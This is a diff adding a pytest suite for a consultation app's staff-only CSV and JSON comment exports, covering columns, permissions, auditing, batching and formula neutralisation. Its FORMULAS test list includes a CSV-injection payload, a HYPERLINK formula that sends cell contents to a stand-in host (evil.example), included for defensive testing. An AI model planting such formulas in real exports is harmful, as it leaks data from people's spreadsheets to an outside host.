@@ -1,0 +1,314 @@
+"""Staff exports of a policy's comments (CSV and JSON): every column for visible, hidden,
+deleted, replied and dispositioned comments; formulas neutralised; only staff download;
+the body is streamed and read in batches."""
+
+import csv
+import io
+import json
+
+import pytest
+import sqlalchemy as sa
+
+from consult.comments.export import COLUMNS, columns_for
+from consult.comments.flags import flag_comment
+from consult.comments.models import Comment, Disposition
+from consult.comments.services import delete_comment, toggle_endorsement
+from consult.comments.triage import Changes, Decision, annotate, apply
+from consult.extensions import db
+from consult.moderation.services import hide
+from tests.comments.test_queries import add_comments
+
+CSV_PATH = "/policies/guidelines/comments/export.csv"
+JSON_PATH = "/policies/guidelines/comments/export.json"
+NOTE = "Ask legal first NOTE-91c2"
+
+
+def just(comment: Comment):
+    return sa.select(sa.literal(comment.id))
+
+
+@pytest.fixture
+def discussion(commentable, create_user, volunteer, staff, moderator, create_comment):
+    """An answered and accepted comment (endorsed, flagged, assigned, with a note and a
+    wording), a reply, a hidden comment, a deleted one, and one by a deleted account."""
+    other = create_user("other", display_name="Olga Other")
+    policy = commentable.policy
+    answered = create_comment(volunteer, commentable, "Name *caste*.", suggested_wording="Add it.")
+    reply = create_comment(staff, commentable, "Thanks, we will.", parent=answered)
+    hidden = create_comment(other, commentable, "Rude words.", language="fr")
+    deleted = create_comment(other, commentable, "Changed my mind.")
+    toggle_endorsement(staff, answered)
+    flag_comment(other, answered, "Off topic?")
+    decision = Decision(Disposition.ACCEPTED)
+    apply(staff, policy, just(answered), Changes(decision, True, staff, "We *agree*."))
+    annotate(staff, answered, NOTE)
+    apply(staff, policy, just(deleted), Changes(Decision(Disposition.DUPLICATE, answered.id)))
+    hide(moderator, hidden, "Insults")
+    delete_comment(other, deleted)
+    db.session.commit()
+    return {c.id: c for c in db.session.scalars(sa.select(Comment))}, (
+        answered.id,
+        reply.id,
+        hidden.id,
+        deleted.id,
+    )
+
+
+def expected_rows(discussion) -> list[dict]:
+    comments, (answered, reply, hidden, deleted) = discussion
+    base = {"revision": 1, "clause_key": "purpose", "clause_number": "1", "edited": None}
+
+    def created(comment_id):
+        return comments[comment_id].created_at.isoformat()
+
+    return [
+        {
+            **base,
+            "id": answered,
+            "parent_id": None,
+            "language": "en",
+            "author": "Val Volunteer",
+            "created": created(answered),
+            "status": "visible",
+            "body": "Name *caste*.",
+            "disposition": "accepted",
+            "duplicate_of": None,
+            "response": "We *agree*.",
+            "endorsements": 1,
+            "suggested_wording": "Add it.",
+            "flags": 1,
+            "assignee": "Sam Staff",
+            "internal_note": NOTE,
+        },
+        {
+            **base,
+            "id": reply,
+            "parent_id": answered,
+            "language": "en",
+            "author": "Sam Staff",
+            "created": created(reply),
+            "status": "visible",
+            "body": "Thanks, we will.",
+            "disposition": "open",
+            "duplicate_of": None,
+            "response": None,
+            "endorsements": 0,
+            "suggested_wording": None,
+            "flags": 0,
+            "assignee": None,
+            "internal_note": None,
+        },
+        {
+            **base,
+            "id": hidden,
+            "parent_id": None,
+            "language": "fr",
+            "author": "Olga Other",
+            "created": created(hidden),
+            "status": "hidden",
+            "body": "Rude words.",
+            "disposition": "open",
+            "duplicate_of": None,
+            "response": None,
+            "endorsements": 0,
+            "suggested_wording": None,
+            "flags": 0,
+            "assignee": None,
+            "internal_note": None,
+        },
+        {
+            **base,
+            "id": deleted,
+            "parent_id": None,
+            "language": "en",
+            "author": "Olga Other",
+            "created": created(deleted),
+            "status": "deleted",
+            "body": "",
+            "disposition": "duplicate",
+            "duplicate_of": answered,
+            "response": None,
+            "endorsements": 0,
+            "suggested_wording": None,
+            "flags": 0,
+            "assignee": None,
+            "internal_note": None,
+        },
+    ]
+
+
+def as_csv_cells(row: dict) -> dict:
+    return {name: "" if value is None else str(value) for name, value in row.items()}
+
+
+def csv_rows(response) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+
+
+def test_every_column_of_the_csv(client, auth, discussion):
+    auth.login("staff")
+    response = client.get(CSV_PATH)
+    assert response.status_code == 200
+    assert response.content_type == "text/csv; charset=utf-8"
+    disposition = response.headers["Content-Disposition"]
+    assert disposition.startswith('attachment; filename="guidelines-comments-')
+    assert disposition.endswith('.csv"')
+    text = response.get_data(as_text=True)
+    assert not text.startswith("\ufeff")
+    assert text.splitlines()[0] == ",".join(column.name for column in COLUMNS)
+    assert csv_rows(response) == [as_csv_cells(row) for row in expected_rows(discussion)]
+
+
+def test_every_column_of_the_json(client, auth, discussion):
+    auth.login("staff")
+    response = client.get(JSON_PATH)
+    assert response.status_code == 200 and response.mimetype == "application/json"
+    assert response.headers["X-Content-Type-Options"] == "nosniff"
+    assert response.headers["Content-Disposition"].endswith('.json"')
+    document = json.loads(response.get_data(as_text=True))
+    assert document["policy"] == "guidelines" and document["revision"] is None
+    assert document["columns"] == [column.name for column in COLUMNS]
+    assert document["comments"] == expected_rows(discussion)
+
+
+def test_the_author_stays_the_same_after_the_account_goes(client, auth, discussion):
+    comments, (answered, *_rest) = discussion
+    db.session.execute(sa.update(Comment).where(Comment.id == answered).values(author_id=None))
+    db.session.commit()
+    auth.login("staff")
+    rows = json.loads(client.get(JSON_PATH).get_data(as_text=True))["comments"]
+    assert rows[0]["id"] == answered and rows[0]["author"] is None
+
+
+def test_staff_only_columns_are_left_out_for_anyone_else():
+    names = [column.name for column in columns_for(staff=False)]
+    assert "internal_note" not in names and "assignee" not in names
+    assert [column.name for column in columns_for(staff=True)] == [c.name for c in COLUMNS]
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+    "+1",
+    "-1",
+    "@SUM(A1:A9)",
+    "\tindented",
+    "\rcarriage",
+    "=1+1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_formulas_are_neutralised_in_the_csv(
+    client, auth, commentable, volunteer, create_comment, formula
+):
+    comment = create_comment(volunteer, commentable, "Harmless.")
+    # Written directly: posting strips a leading tab or line break, a restored backup need not.
+    values = {"body": formula, "suggested_wording": formula, "response": formula}
+    db.session.execute(sa.update(Comment).where(Comment.id == comment.id).values(**values))
+    db.session.commit()
+    auth.login("staff")
+    (row,) = csv_rows(client.get(CSV_PATH))
+    assert row["body"] == row["suggested_wording"] == row["response"] == "'" + formula
+    # JSON is data, not a spreadsheet: the text is exactly as written.
+    (item,) = json.loads(client.get(JSON_PATH).get_data(as_text=True))["comments"]
+    assert item["body"] == item["suggested_wording"] == item["response"] == formula
+
+
+def test_a_harmless_text_is_left_alone(client, auth, commentable, volunteer, create_comment):
+    create_comment(volunteer, commentable, "1 = 1, and -1 is fine mid-text")
+    auth.login("staff")
+    (row,) = csv_rows(client.get(CSV_PATH))
+    assert row["body"] == "1 = 1, and -1 is fine mid-text"
+
+
+def test_bom_on_request(client, auth, discussion):
+    auth.login("staff")
+    data = client.get(CSV_PATH + "?bom=1").get_data()
+    assert data.startswith(b"\xef\xbb\xbfid,revision,")
+    assert client.get(CSV_PATH + "?bom=0").get_data().startswith(b"id,")
+
+
+def test_one_revision_only(client, auth, discussion, create_revision, volunteer, create_comment):
+    comments, ids = discussion
+    second = create_revision(comments[ids[0]].revision.policy, summary="Second")
+    later = create_comment(volunteer, second, "On the second revision.")
+    auth.login("staff")
+    rows = csv_rows(client.get(CSV_PATH + "?revision=2"))
+    assert [(row["id"], row["revision"]) for row in rows] == [(str(later.id), "2")]
+    document = json.loads(client.get(JSON_PATH + "?revision=1").get_data(as_text=True))
+    assert document["revision"] == 1
+    assert [row["id"] for row in document["comments"]] == list(ids)
+    assert len(csv_rows(client.get(CSV_PATH))) == len(ids) + 1
+    with client.get(CSV_PATH + "?revision=2") as response:
+        assert "-revision-2-" in response.headers["Content-Disposition"]
+    assert client.get(CSV_PATH + "?revision=9").status_code == 404
+    assert client.get(JSON_PATH + "?revision=x").status_code == 400
+    assert client.get(JSON_PATH + "?revision=99999999999").status_code == 400
+
+
+@pytest.mark.parametrize("path", [CSV_PATH, JSON_PATH])
+@pytest.mark.parametrize("who", ["volunteer", "moderator", None])
+def test_only_staff_export(client, auth, discussion, path, who):
+    if who:
+        auth.login(who)
+    response = client.get(path)
+    if who:
+        assert response.status_code == 403
+    else:
+        assert response.status_code == 302 and "/login" in response.location
+    assert NOTE not in response.get_data(as_text=True)
+
+
+def test_exports_are_audited(client, auth, discussion):
+    from consult.audit.models import AuditEvent
+
+    auth.login("staff")
+    client.get(CSV_PATH + "?revision=1").get_data()
+    event = db.session.scalars(
+        sa.select(AuditEvent).where(AuditEvent.action == "comments.exported")
+    ).one()
+    assert event.details == {"format": "csv", "revision": 1}
+
+
+def test_the_triage_page_links_the_exports(client, auth, discussion):
+    auth.login("staff")
+    page = client.get("/policies/guidelines/triage?revision=1").get_data(as_text=True)
+    assert f'href="{CSV_PATH}"' in page and f'href="{JSON_PATH}"' in page
+    assert f'href="{CSV_PATH}?revision=1"' in page
+
+
+# --- Streaming and batches ------------------------------------------------------------------
+
+
+@pytest.fixture
+def authors(create_user):
+    return [create_user(f"author{i}", display_name=f"Author {i}") for i in range(4)]
+
+
+def export_queries(client, count_queries, path: str) -> tuple[int, int]:
+    """(queries, rows) of one export, read to the end."""
+    with count_queries() as queries:
+        response = client.get(path)
+        assert response.is_streamed
+        body = response.get_data(as_text=True)
+    rows = len(body.splitlines()) - 1 if path.endswith(".csv") else body.count('"id":')
+    return len(queries), rows
+
+
+@pytest.mark.parametrize("path", [CSV_PATH, JSON_PATH])
+def test_the_export_streams_and_reads_in_batches(
+    client, auth, count_queries, commentable, authors, staff, monkeypatch, path
+):
+    """A fixed number of queries per batch of comments, whatever is in the batch."""
+    monkeypatch.setattr("consult.comments.export.BATCH", 100)
+    auth.login("staff")
+    add_comments(commentable, authors, 50)
+    client.get(path).get_data()  # warm-up: one-time work (mapper configuration, caches)
+    small, rows = export_queries(client, count_queries, path)
+    assert rows == 50
+    add_comments(commentable, authors, 940, start=50)
+    large, rows = export_queries(client, count_queries, path)
+    assert rows == 990
+    # Ten batches instead of one: a page of comments, their flags and staff records each.
+    assert large - small == 9 * 3
+    assert small < 20
